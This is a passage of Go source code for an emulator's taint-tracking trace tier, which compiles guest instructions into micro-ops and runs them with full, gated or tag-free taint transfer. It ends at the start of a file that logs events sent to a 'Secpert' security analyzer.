			m = mop{code: mAluMM, aop: aop, base: uint8(aBase), disp: aDisp, base2: uint8(bBase), disp2: bDisp}
		default:
			return false
		}

	case isa.LEA:
		if in.A.Kind != isa.RegOperand || in.B.Kind != isa.MemOperand {
			return false
		}
		m = mop{code: mLea, reg: uint8(in.A.Reg), base2: uint8(bBase), disp2: bDisp, tag: tc.bin}

	case isa.NOT, isa.NEG, isa.INC, isa.DEC:
		switch in.A.Kind {
		case isa.RegOperand:
			m = mop{code: mUnR, aop: uint8(in.Op), reg: uint8(in.A.Reg), tag: tc.bin}
		case isa.MemOperand:
			m = mop{code: mUnM, aop: uint8(in.Op), base: uint8(aBase), disp: aDisp, tag: tc.bin}
		default:
			return false
		}

	case isa.CMP, isa.TEST:
		aop := uint8(in.Op)
		switch {
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: mCmpRR, aop: aop, reg: uint8(in.A.Reg), reg2: uint8(in.B.Reg)}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: mCmpRI, aop: aop, reg: uint8(in.A.Reg), disp: in.B.Imm}
		case in.A.Kind == isa.RegOperand && in.B.Kind == isa.MemOperand:
			m = mop{code: mCmpRM, aop: aop, reg: uint8(in.A.Reg), base2: uint8(bBase), disp2: bDisp}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.RegOperand:
			m = mop{code: mCmpMR, aop: aop, base: uint8(aBase), disp: aDisp, reg: uint8(in.B.Reg)}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.ImmOperand:
			m = mop{code: mCmpMI, aop: aop, base: uint8(aBase), disp: aDisp, disp2: in.B.Imm}
		case in.A.Kind == isa.MemOperand && in.B.Kind == isa.MemOperand:
			m = mop{code: mCmpMM, aop: aop, base: uint8(aBase), disp: aDisp, base2: uint8(bBase), disp2: bDisp}
		default:
			return false
		}

	case isa.PUSH:
		switch in.A.Kind {
		case isa.RegOperand:
			m = mop{code: mPushR, reg: uint8(in.A.Reg)}
		case isa.ImmOperand:
			m = mop{code: mPushI, disp: in.A.Imm, tag: tc.bin}
		case isa.MemOperand:
			// The push source rides the B-side slots.
			if in.A.HasBase {
				m = mop{code: mPushM, base2: uint8(in.A.Reg), disp2: in.A.Imm}
			} else {
				m = mop{code: mPushM, base2: traceNoBase, disp2: in.A.Imm}
			}
		default:
			return false
		}

	case isa.POP:
		if in.A.Kind != isa.RegOperand {
			// POP [mem]: the interpreter resolves the taint address with
			// the pre-pop ESP but the concrete address with the post-pop
			// ESP; not worth replicating.
			return false
		}
		m = mop{code: mPopR, reg: uint8(in.A.Reg)}

	case isa.CPUID:
		m = mop{code: mCpuid}
	case isa.RDTSC:
		m = mop{code: mRdtsc}

	default:
		return false
	}
	tc.steps++
	if in.Op.MovesData() {
		tc.nData++
	}
	tc.scStep(in)
	tc.emit(m, tc.s.Addr(i))
	return true
}

// collectGateRegs extracts, from the symbolic pass's (discarded) op
// list, the set of entry registers that form taint-relevant addresses
// — the registers whose concrete values a gate entry must key on.
// More than traceGateRegs distinct bases disables the gate.
func (tr *blockTrace) collectGateRegs(ops []sumOp) {
	var mask uint32
	for i := range ops {
		op := &ops[i]
		switch op.code {
		case cRegLoadW, cRegLoadB, cRegUnionLoadW:
			if op.bBase != sumNoBase {
				mask |= 1 << op.bBase
			}
		case cStoreWReg, cStoreWTag, cStoreBReg, cStoreBTag, cMemUnionReg, cMemUnionTag:
			if op.aBase != sumNoBase {
				mask |= 1 << op.aBase
			}
		case cMemUnionLoadW, cMemCopyW, cMemCopyB:
			if op.aBase != sumNoBase {
				mask |= 1 << op.aBase
			}
			if op.bBase != sumNoBase {
				mask |= 1 << op.bBase
			}
		}
	}
	for r := uint8(0); r < uint8(isa.NumRegs); r++ {
		if mask&(1<<r) == 0 {
			continue
		}
		if tr.nIn == traceGateRegs {
			tr.gateOK = false
			tr.nIn = 0
			return
		}
		tr.inRegs[tr.nIn] = r
		tr.nIn++
	}
}

// --- trace execution ----------------------------------------------

// traceExit describes where a trace run stopped: the architectural
// exit point, the retired/instrumented instruction counts, the first
// mop index this run did NOT cover (the gate entry's end), and the
// guest fault if the run died on one.
type traceExit struct {
	eip    uint32
	jumped bool
	// 32-bit counts: a single run fits uint16, but the clean tier
	// fuses consecutive runs of a self-looping trace into one exit,
	// whose totals are bounded only by the scheduler quantum.
	steps   uint32
	nData   uint32
	nBlocks uint32
	end     int
	dirty   bool
	lastB   *traceBlock
	fault   *isa.Fault
}

// runTrace executes a compiled trace: gate probe, then the bare or
// full-taint mop loop, then the exit protocol. budget is the
// scheduler's remaining quantum (<= 0: unlimited); the caller has
// already checked that the first block fits.
func (h *Harrier) runTrace(c *isa.CPU, tr *blockTrace, budget int) error {
	sh := c.Shadow
	verify := false
	var entGen uint64
	var entVals [traceGateRegs]uint32
	if tr.clean.ok && h.cleanProbeTrace(c, tr) {
		// Clean tier: the whole transfer is a proven no-op under the
		// current footprint/tag state, so run the trace with zero
		// instrumentation. end = len(mops) means the bare loop never
		// hands over to the taint loop (cont is always -1).
		if h.tt != nil {
			h.tt.Touch(obs.TierClean)
		}
		ex, _ := h.runTraceBare(c, tr, budget, len(tr.mops))
		// Clean-loop fusion: when the run lands back on this trace's
		// own head (a self-looping hot loop), re-enter directly instead
		// of surfacing to the fetch loop — per-entry dispatch is most
		// of what the clean tier still pays. Nothing a cached verdict
		// depends on can move during a bare run (no tag writes and no
		// syscalls, hence no page flips and no source-epoch advance);
		// only the footprint *pages* may differ now that the registers
		// moved, which is exactly what re-probing checks. Fusing only
		// under a positive budget keeps Step's contract with unbounded
		// callers: one trace entry per call. Every run retires at least
		// one instruction, so the budget strictly decreases.
		for budget > 0 && ex.fault == nil && ex.eip == tr.head.key.addr {
			rem := budget - int(ex.steps)
			if rem < tr.blocks[0].instrs || !h.cleanProbeTrace(c, tr) {
				break
			}
			nx, _ := h.runTraceBare(c, tr, rem, len(tr.mops))
			nx.steps += ex.steps
			nx.nData += ex.nData
			nx.nBlocks += ex.nBlocks
			if nx.lastB == nil {
				nx.lastB = ex.lastB
			}
			ex = nx
		}
		return h.finishTrace(c, tr, ex, false, 0, entVals, true)
	}
	if tr.gateOK {
		for k := 0; k < tr.nIn; k++ {
			entVals[k] = c.Regs[tr.inRegs[k]]
		}
		entGen = sh.Gen()
		hit := -1
		for e := 0; e < tr.gateN; e++ {
			g := &tr.gate[e]
			if g.sh == sh && g.gen == entGen && g.vals == entVals && g.tags == c.RegTags {
				hit = e
				break
			}
		}
		if hit >= 0 {
			h.stats.GateSkips++
			ex, cont := h.runTraceBare(c, tr, budget, tr.gate[hit].end)
			if cont >= 0 {
				// Bare mode ran past the verified prefix; finish the
				// remainder with full taint transfer, keeping the bare
				// phase's block-entry accounting.
				bare, bareLast := ex.nBlocks, ex.lastB
				ex = h.runTraceTaint(c, tr, budget, cont, false)
				ex.nBlocks += bare
				if ex.lastB == nil {
					ex.lastB = bareLast
				}
			}
			return h.finishTrace(c, tr, ex, false, 0, entVals, false)
		}
		verify = true
	}
	ex := h.runTraceTaint(c, tr, budget, 0, verify)
	return h.finishTrace(c, tr, ex, verify, entGen, entVals, false)
}

// finishTrace applies the exit protocol: architectural exit point,
// retired-step accounting, the batched instrumented-instruction
// counter with its sampling boundary, and — for a clean verify run —
// installation of a gate entry.
func (h *Harrier) finishTrace(c *isa.CPU, tr *blockTrace, ex traceExit, verify bool, entGen uint64, entVals [traceGateRegs]uint32, clean bool) error {
	c.ExitTrace(ex.eip, ex.jumped)
	c.Steps += uint64(ex.steps)
	h.stats.Blocks += uint64(ex.nBlocks)
	if clean {
		h.stats.CleanHits += uint64(ex.nBlocks)
	} else {
		h.stats.TraceHits += uint64(ex.nBlocks)
	}
	if b := ex.lastB; b != nil && b.isApp {
		// Write-behind app attribution, batched to one update per run:
		// no observation point exists inside a trace (a syscall ends it
		// at compile time), so only the last entered app block's key is
		// ever visible.
		if p := procOf(c); p != nil {
			if p.PID != h.appCachePID {
				h.flushApp()
				h.appCachePID = p.PID
			}
			h.appCacheKey = b.key
		}
	}
	old := h.stats.Instructions
	h.stats.Instructions = old + uint64(ex.nData)
	if h.bus != nil && old>>taintSampleShift != h.stats.Instructions>>taintSampleShift {
		h.publishTaintSample(c)
	}
	if verify && ex.fault == nil && !ex.dirty && c.Shadow.Gen() == entGen {
		// Nothing moved: the whole covered prefix is taint-stationary
		// for this key. RegTags are still the entry tags (no write
		// changed them), so the post-state doubles as the key. One
		// entry per key: re-verifying the same key at the same
		// generation only ever extends the covered prefix (a budget
		// exit verifies a shorter prefix of the same stationary run),
		// while a new generation replaces the stale verdict outright.
		var g *gateEnt
		for e := 0; e < tr.gateN; e++ {
			x := &tr.gate[e]
			if x.sh == c.Shadow && x.vals == entVals && x.tags == c.RegTags {
				g = x
				break
			}
		}
		switch {
		case g == nil:
			tr.gate[tr.gateRR] = gateEnt{
				sh: c.Shadow, gen: entGen, end: ex.end,
				vals: entVals, tags: c.RegTags,
			}
			tr.gateRR = (tr.gateRR + 1) % traceGateWays
			if tr.gateN < traceGateWays {
				tr.gateN++
			}
		case g.gen == entGen:
			if ex.end > g.end {
				g.end = ex.end
			}
		default:
			g.gen = entGen
			g.end = ex.end
		}
	}
	if ex.fault != nil {
		return ex.fault
	}
	return nil
}

// traceBlockEnter performs the observable per-block side effects of
// one chained block entry: the provenance register scan and the
// counter-rollover event, at the same execution point the interpreter
// tier would perform them. Only called when a recorder or bus is
// attached — the mop loops otherwise keep block entry down to one
// counter increment, with statistics batched at exit and last-app
// attribution folded into finishTrace. consumed is the trace's
// retired-instruction count before this block, which keeps event
// timestamps on the interpreter's clock.
//
//go:noinline
func (h *Harrier) traceBlockEnter(c *isa.CPU, b *traceBlock, consumed uint16) {
	p := procOf(c)
	if p == nil {
		return
	}
	now := p.OS.Clock + uint64(consumed)
	if h.prov != nil {
		h.provBlockScan(c, now, int32(p.PID), b.key.addr, b.key.image, true)
	}
	if h.bus != nil && uint64(*b.ctr)&(bbRollQuantum-1) == 0 {
		h.bus.Publish(obs.Event{
			Time: now, Layer: obs.LayerHarrier, Kind: obs.KindBBRoll,
			PID: int32(p.PID), Num: uint64(b.key.addr), Num2: uint64(*b.ctr),
			Str: b.key.image,
		})
	}
}

// aluExec performs one ALU operation; ok is false on the runtime
// division-by-zero fault.
func aluExec(aop uint8, a, b uint32) (uint32, bool) {
	switch isa.Op(aop) {
	case isa.ADD:
		return a + b, true
	case isa.SUB:
		return a - b, true
	case isa.AND:
		return a & b, true
	case isa.OR:
		return a | b, true
	case isa.XOR:
		return a ^ b, true
	case isa.MUL:
		return a * b, true
	case isa.DIVOP:
		if b == 0 {
			return 0, false
		}
		return a / b, true
	case isa.MODOP:
		if b == 0 {
			return 0, false
		}
		return a % b, true
	case isa.SHL:
		return a << (b & 31), true
	case isa.SHR:
		return a >> (b & 31), true
	}
	return 0, false
}

// unExec performs one unary operation.
func unExec(aop uint8, a uint32) uint32 {
	switch isa.Op(aop) {
	case isa.NOT:
		return ^a
	case isa.NEG:
		return -a
	case isa.INC:
		return a + 1
	}
	return a - 1 // DEC
}

// brTaken evaluates a conditional-branch opcode against the flags.
func brTaken(aop uint8, zf, lt bool) bool {
	switch isa.Op(aop) {
	case isa.JZ:
		return zf
	case isa.JNZ:
		return !zf
	case isa.JL:
		return lt
	case isa.JLE:
		return lt || zf
	case isa.JG:
		return !lt && !zf
	}
	return !lt // JGE
}

// runTraceTaint is the full-transfer mop loop: every mop applies its
// instruction's taint transfer first (the interpreter runs OnInstr
// before executing) and its concrete semantics second. Register-tag
// writes are compare-guarded — the guard both skips redundant stores
// and feeds the verify mode's dirty flag. start lets a bare run hand
// over mid-trace at a block boundary.
func (h *Harrier) runTraceTaint(c *isa.CPU, tr *blockTrace, budget, start int, verify bool) (ex traceExit) {
	_ = verify // dirty tracking is unconditional; the flag documents intent
	sh := c.Shadow
	st := h.Store
	mem := c.Mem
	zf, lt := c.ZF, c.LT
	dirty := false
	observed := h.prov != nil || h.bus != nil
	var nBlocks uint32
	var lastB *traceBlock
	defer func() { ex.nBlocks, ex.lastB = nBlocks, lastB }()
	mops, info := tr.mops, tr.info
	for j := start; j < len(mops); j++ {
		op := &mops[j]
		switch op.code {
		case mBBEnter:
			b := &tr.blocks[op.disp]
			if budget > 0 && int(info[j].steps)+b.instrs > budget {
				c.ZF, c.LT = zf, lt
				return traceExit{
					eip: info[j].addr, jumped: b.entryJumped,
					steps: uint32(info[j].steps), nData: uint32(info[j].nData),
					end: j, dirty: dirty,
				}
			}
			*b.ctr++
			nBlocks++
			lastB = b
			if observed {
				h.traceBlockEnter(c, b, info[j].steps)
			}

		case mBr:
			if taken := brTaken(op.aop, zf, lt); taken != op.pred {
				h.stats.TraceSideExits++
				eip := op.disp2
				if taken {
					eip = op.disp
				}
				c.ZF, c.LT = zf, lt
				return traceExit{
					eip: eip, jumped: true,
					steps: uint32(info[j].steps), nData: uint32(info[j].nData),
					end: j + 1, dirty: dirty,
				}
			}

		case mMovRR:
			if t := c.RegTags[op.reg2]; c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			c.Regs[op.reg] = c.Regs[op.reg2]
		case mMovRI:
			if c.RegTags[op.reg] != op.tag {
				c.RegTags[op.reg] = op.tag
				dirty = true
			}
			c.Regs[op.reg] = op.disp
		case mMovRM:
			ea := op.ea2(c)
			if t := sh.GetWord(ea); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			c.Regs[op.reg] = mem.Load32(ea)
		case mMovMR:
			ea := op.ea(c)
			sh.SetWord(ea, c.RegTags[op.reg])
			mem.Store32(ea, c.Regs[op.reg])
		case mMovMI:
			ea := op.ea(c)
			sh.SetWord(ea, op.tag)
			mem.Store32(ea, op.disp2)
		case mMovMM:
			eaB := op.ea2(c)
			eaA := op.ea(c)
			sh.SetWord(eaA, sh.GetWord(eaB))
			mem.Store32(eaA, mem.Load32(eaB))

		case mMovbRR:
			if t := c.RegTags[op.reg2]; c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | (c.Regs[op.reg2] & 0xFF)
		case mMovbRI:
			if c.RegTags[op.reg] != op.tag {
				c.RegTags[op.reg] = op.tag
				dirty = true
			}
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | (op.disp & 0xFF)
		case mMovbRM:
			ea := op.ea2(c)
			if t := sh.Get(ea); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | uint32(mem.Load8(ea))
		case mMovbMR:
			ea := op.ea(c)
			sh.Set(ea, c.RegTags[op.reg])
			mem.Store8(ea, byte(c.Regs[op.reg]))
		case mMovbMI:
			ea := op.ea(c)
			sh.Set(ea, op.tag)
			mem.Store8(ea, byte(op.disp2))
		case mMovbMM:
			eaB := op.ea2(c)
			eaA := op.ea(c)
			sh.Set(eaA, sh.Get(eaB))
			mem.Store8(eaA, mem.Load8(eaB))

		case mLea:
			t := op.tag
			if op.base2 != traceNoBase {
				t = st.Union(t, c.RegTags[op.base2])
			}
			if c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			c.Regs[op.reg] = op.ea2(c)

		case mZeroR:
			if c.RegTags[op.reg] != taint.Empty {
				c.RegTags[op.reg] = taint.Empty
				dirty = true
			}
			c.Regs[op.reg] = 0
			zf, lt = true, false

		case mAluRR:
			if t := st.Union(c.RegTags[op.reg], c.RegTags[op.reg2]); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			r, ok := aluExec(op.aop, c.Regs[op.reg], c.Regs[op.reg2])
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluRI:
			if t := st.Union(c.RegTags[op.reg], op.tag); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			r, ok := aluExec(op.aop, c.Regs[op.reg], op.disp)
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluRM:
			ea := op.ea2(c)
			if t := st.Union(c.RegTags[op.reg], sh.GetWord(ea)); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			r, ok := aluExec(op.aop, c.Regs[op.reg], mem.Load32(ea))
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluMR:
			ea := op.ea(c)
			sh.SetWord(ea, st.Union(sh.GetWord(ea), c.RegTags[op.reg]))
			r, ok := aluExec(op.aop, mem.Load32(ea), c.Regs[op.reg])
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)
		case mAluMI:
			ea := op.ea(c)
			sh.SetWord(ea, st.Union(sh.GetWord(ea), op.tag))
			r, ok := aluExec(op.aop, mem.Load32(ea), op.disp2)
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)
		case mAluMM:
			eaA := op.ea(c)
			eaB := op.ea2(c)
			sh.SetWord(eaA, st.Union(sh.GetWord(eaA), sh.GetWord(eaB)))
			r, ok := aluExec(op.aop, mem.Load32(eaA), mem.Load32(eaB))
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, dirty)
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(eaA, r)

		case mUnR:
			if isa.Op(op.aop) == isa.INC || isa.Op(op.aop) == isa.DEC {
				if t := st.Union(c.RegTags[op.reg], op.tag); c.RegTags[op.reg] != t {
					c.RegTags[op.reg] = t
					dirty = true
				}
			}
			r := unExec(op.aop, c.Regs[op.reg])
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mUnM:
			ea := op.ea(c)
			t := sh.GetWord(ea)
			if isa.Op(op.aop) == isa.INC || isa.Op(op.aop) == isa.DEC {
				t = st.Union(t, op.tag)
			}
			// NOT/NEG re-store the word's own tag: not a no-op on
			// byte-granular pages (it uniformizes the four byte tags).
			sh.SetWord(ea, t)
			r := unExec(op.aop, mem.Load32(ea))
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)

		case mCmpRR:
			a, b := c.Regs[op.reg], c.Regs[op.reg2]
			zf, lt = cmpFlags(op.aop, a, b)
		case mCmpRI:
			zf, lt = cmpFlags(op.aop, c.Regs[op.reg], op.disp)
		case mCmpRM:
			zf, lt = cmpFlags(op.aop, c.Regs[op.reg], mem.Load32(op.ea2(c)))
		case mCmpMR:
			zf, lt = cmpFlags(op.aop, mem.Load32(op.ea(c)), c.Regs[op.reg])
		case mCmpMI:
			zf, lt = cmpFlags(op.aop, mem.Load32(op.ea(c)), op.disp2)
		case mCmpMM:
			a := mem.Load32(op.ea(c))
			b := mem.Load32(op.ea2(c))
			zf, lt = cmpFlags(op.aop, a, b)

		case mPushR:
			esp := c.Regs[isa.ESP] - 4
			sh.SetWord(esp, c.RegTags[op.reg])
			mem.Store32(esp, c.Regs[op.reg])
			c.Regs[isa.ESP] = esp
		case mPushI:
			esp := c.Regs[isa.ESP] - 4
			sh.SetWord(esp, op.tag)
			mem.Store32(esp, op.disp)
			c.Regs[isa.ESP] = esp
		case mPushM:
			eaB := op.ea2(c)
			esp := c.Regs[isa.ESP] - 4
			sh.SetWord(esp, sh.GetWord(eaB))
			mem.Store32(esp, mem.Load32(eaB))
			c.Regs[isa.ESP] = esp
		case mPopR:
			esp := c.Regs[isa.ESP]
			if t := sh.GetWord(esp); c.RegTags[op.reg] != t {
				c.RegTags[op.reg] = t
				dirty = true
			}
			v := mem.Load32(esp)
			c.Regs[isa.ESP] = esp + 4
			c.Regs[op.reg] = v

		case mCpuid:
			for _, r := range [...]uint8{uint8(isa.EAX), uint8(isa.EBX), uint8(isa.ECX), uint8(isa.EDX)} {
				if c.RegTags[r] != h.hwTag {
					c.RegTags[r] = h.hwTag
					dirty = true
				}
			}
			if h.prov != nil {
				h.provHardware(c, "cpuid")
			}
			c.Regs[isa.EAX] = 0x48544853
			c.Regs[isa.EBX] = 0x696D5543
			c.Regs[isa.ECX] = 0x756C6174
			c.Regs[isa.EDX] = 0x726F2121
		case mRdtsc:
			if c.RegTags[isa.EAX] != h.hwTag {
				c.RegTags[isa.EAX] = h.hwTag
				dirty = true
			}
			if c.RegTags[isa.EDX] != h.hwTag {
				c.RegTags[isa.EDX] = h.hwTag
				dirty = true
			}
			if h.prov != nil {
				h.provHardware(c, "rdtsc")
			}
			steps := c.Steps + uint64(info[j].steps)
			c.Regs[isa.EAX] = uint32(steps)
			c.Regs[isa.EDX] = uint32(steps >> 32)
		}
	}
	c.ZF, c.LT = zf, lt
	return traceExit{
		eip: tr.endEIP, jumped: tr.endJumped,
		steps: uint32(tr.nInstr), nData: uint32(tr.nData),
		end: len(mops), dirty: dirty,
	}
}

// traceFault builds the division-by-zero exit: the faulting
// instruction's taint transfer has already been applied (the
// interpreter's OnInstr runs before the fault too) and its retirement
// is counted, exactly as the interpreter reports it.
func traceFault(info []mopInfo, j int, dirty bool) traceExit {
	return traceExit{
		eip: info[j].addr, jumped: false,
		steps: uint32(info[j].steps), nData: uint32(info[j].nData), dirty: dirty,
		fault: &isa.Fault{PC: info[j].addr, Reason: "division by zero"},
	}
}

// cmpFlags evaluates CMP/TEST flag semantics.
func cmpFlags(aop uint8, a, b uint32) (zf, lt bool) {
	if isa.Op(aop) == isa.CMP {
		return a == b, int32(a) < int32(b)
	}
	r := a & b
	return r == 0, int32(r) < 0
}

// runTraceBare is the clean-taint fast path: the tag-free variant of
// the mop loop, executing only concrete semantics. It is entered on a
// gate hit and runs up to `end`, the first mop the matched verify run
// did not cover; reaching it hands control to the full loop (cont >=
// 0). All per-block side effects still fire — the gate elides taint
// transfer, never observability. Skipping the transfer is exact
// because every skipped mop was proven a taint no-op for this exact
// key (see the file comment); that includes a mop that faults here,
// so even the fault path needs no tag work.
func (h *Harrier) runTraceBare(c *isa.CPU, tr *blockTrace, budget, end int) (ex traceExit, cont int) {
	mem := c.Mem
	zf, lt := c.ZF, c.LT
	observed := h.prov != nil || h.bus != nil
	var nBlocks uint32
	var lastB *traceBlock
	defer func() { ex.nBlocks, ex.lastB = nBlocks, lastB }()
	mops, info := tr.mops, tr.info
	for j := 0; j < len(mops); j++ {
		op := &mops[j]
		switch op.code {
		case mBBEnter:
			if j >= end {
				// Past the verified prefix: re-specialize by switching to
				// the full-transfer loop at this block boundary.
				c.ZF, c.LT = zf, lt
				return traceExit{}, j
			}
			b := &tr.blocks[op.disp]
			if budget > 0 && int(info[j].steps)+b.instrs > budget {
				c.ZF, c.LT = zf, lt
				return traceExit{
					eip: info[j].addr, jumped: b.entryJumped,
					steps: uint32(info[j].steps), nData: uint32(info[j].nData), end: j,
				}, -1
			}
			*b.ctr++
			nBlocks++
			lastB = b
			if observed {
				h.traceBlockEnter(c, b, info[j].steps)
			}

		case mBr:
			if taken := brTaken(op.aop, zf, lt); taken != op.pred {
				h.stats.TraceSideExits++
				eip := op.disp2
				if taken {
					eip = op.disp
				}
				c.ZF, c.LT = zf, lt
				return traceExit{
					eip: eip, jumped: true,
					steps: uint32(info[j].steps), nData: uint32(info[j].nData), end: j + 1,
				}, -1
			}

		case mMovRR:
			c.Regs[op.reg] = c.Regs[op.reg2]
		case mMovRI:
			c.Regs[op.reg] = op.disp
		case mMovRM:
			c.Regs[op.reg] = mem.Load32(op.ea2(c))
		case mMovMR:
			mem.Store32(op.ea(c), c.Regs[op.reg])
		case mMovMI:
			mem.Store32(op.ea(c), op.disp2)
		case mMovMM:
			v := mem.Load32(op.ea2(c))
			mem.Store32(op.ea(c), v)

		case mMovbRR:
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | (c.Regs[op.reg2] & 0xFF)
		case mMovbRI:
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | (op.disp & 0xFF)
		case mMovbRM:
			c.Regs[op.reg] = (c.Regs[op.reg] &^ 0xFF) | uint32(mem.Load8(op.ea2(c)))
		case mMovbMR:
			mem.Store8(op.ea(c), byte(c.Regs[op.reg]))
		case mMovbMI:
			mem.Store8(op.ea(c), byte(op.disp2))
		case mMovbMM:
			v := mem.Load8(op.ea2(c))
			mem.Store8(op.ea(c), v)

		case mLea:
			c.Regs[op.reg] = op.ea2(c)
		case mZeroR:
			c.Regs[op.reg] = 0
			zf, lt = true, false

		case mAluRR:
			r, ok := aluExec(op.aop, c.Regs[op.reg], c.Regs[op.reg2])
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluRI:
			r, ok := aluExec(op.aop, c.Regs[op.reg], op.disp)
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluRM:
			r, ok := aluExec(op.aop, c.Regs[op.reg], mem.Load32(op.ea2(c)))
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mAluMR:
			ea := op.ea(c)
			r, ok := aluExec(op.aop, mem.Load32(ea), c.Regs[op.reg])
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)
		case mAluMI:
			ea := op.ea(c)
			r, ok := aluExec(op.aop, mem.Load32(ea), op.disp2)
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)
		case mAluMM:
			eaA := op.ea(c)
			r, ok := aluExec(op.aop, mem.Load32(eaA), mem.Load32(op.ea2(c)))
			if !ok {
				c.ZF, c.LT = zf, lt
				return traceFault(info, j, false), -1
			}
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(eaA, r)

		case mUnR:
			r := unExec(op.aop, c.Regs[op.reg])
			zf, lt = r == 0, int32(r) < 0
			c.Regs[op.reg] = r
		case mUnM:
			ea := op.ea(c)
			r := unExec(op.aop, mem.Load32(ea))
			zf, lt = r == 0, int32(r) < 0
			mem.Store32(ea, r)

		case mCmpRR:
			zf, lt = cmpFlags(op.aop, c.Regs[op.reg], c.Regs[op.reg2])
		case mCmpRI:
			zf, lt = cmpFlags(op.aop, c.Regs[op.reg], op.disp)
		case mCmpRM:
			zf, lt = cmpFlags(op.aop, c.Regs[op.reg], mem.Load32(op.ea2(c)))
		case mCmpMR:
			zf, lt = cmpFlags(op.aop, mem.Load32(op.ea(c)), c.Regs[op.reg])
		case mCmpMI:
			zf, lt = cmpFlags(op.aop, mem.Load32(op.ea(c)), op.disp2)
		case mCmpMM:
			a := mem.Load32(op.ea(c))
			b := mem.Load32(op.ea2(c))
			zf, lt = cmpFlags(op.aop, a, b)

		case mPushR:
			esp := c.Regs[isa.ESP] - 4
			mem.Store32(esp, c.Regs[op.reg])
			c.Regs[isa.ESP] = esp
		case mPushI:
			esp := c.Regs[isa.ESP] - 4
			mem.Store32(esp, op.disp)
			c.Regs[isa.ESP] = esp
		case mPushM:
			v := mem.Load32(op.ea2(c))
			esp := c.Regs[isa.ESP] - 4
			mem.Store32(esp, v)
			c.Regs[isa.ESP] = esp
		case mPopR:
			esp := c.Regs[isa.ESP]
			v := mem.Load32(esp)
			c.Regs[isa.ESP] = esp + 4
			c.Regs[op.reg] = v

		case mCpuid:
			// Tag writes were proven no-ops (the registers already carry
			// HARDWARE); the provenance entry still fires.
			if h.prov != nil {
				h.provHardware(c, "cpuid")
			}
			c.Regs[isa.EAX] = 0x48544853
			c.Regs[isa.EBX] = 0x696D5543
			c.Regs[isa.ECX] = 0x756C6174
			c.Regs[isa.EDX] = 0x726F2121
		case mRdtsc:
			if h.prov != nil {
				h.provHardware(c, "rdtsc")
			}
			steps := c.Steps + uint64(info[j].steps)
			c.Regs[isa.EAX] = uint32(steps)
			c.Regs[isa.EDX] = uint32(steps >> 32)
		}
	}
	c.ZF, c.LT = zf, lt
	return traceExit{
		eip: tr.endEIP, jumped: tr.endJumped,
		steps: uint32(tr.nInstr), nData: uint32(tr.nData), end: len(mops),
	}, -1
}
