package harrier

import (
	"fmt"
	"strings"

	"repro/internal/events"
	"repro/internal/secpert"
)

// LogEntry is one record of the event log: the event Harrier's
// EventAnalyzer sent to Secpert, and the verdict that came back
// (paper Figure 6: the EventAnalyzer "format[s] and send[s] the
// events to Secpert ... then waits for a response").
type LogEntry struct {
	Seq      int
	Access   *events.Access // exactly one of Access/IO is set
	IO       *events.IO
	Decision secpert.Decision
}

// String renders the entry as a single transcript line.
func (le LogEntry) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "#%d ", le.Seq)
	switch {
	case le.Access != nil:
		a := le.Access
		fmt.Fprintf(&b, "pid %d %s", a.PID, a.Call)
		if a.Resource.Name != "" {
			fmt.Fprintf(&b, " %s %q (name from %v)", a.Resource.Type, a.Resource.Name, a.Resource.Origin)
		}
		if a.CloneCount > 0 {
			fmt.Fprintf(&b, " clones=%d rate=%d", a.CloneCount, a.CloneRate)
		}
		if a.MemBytes > 0 {
